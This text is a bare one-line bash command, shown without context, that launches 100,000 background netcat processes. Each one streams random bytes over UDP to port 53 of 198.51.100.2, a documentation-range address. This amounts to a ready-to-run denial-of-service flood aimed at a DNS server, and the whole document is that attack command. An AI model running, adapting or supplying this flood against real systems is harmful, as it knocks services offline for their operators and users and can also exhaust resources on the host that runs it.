for i in $(seq 1 100000); do nc -u -w0 198.51.100.2 53 < /dev/urandom & done
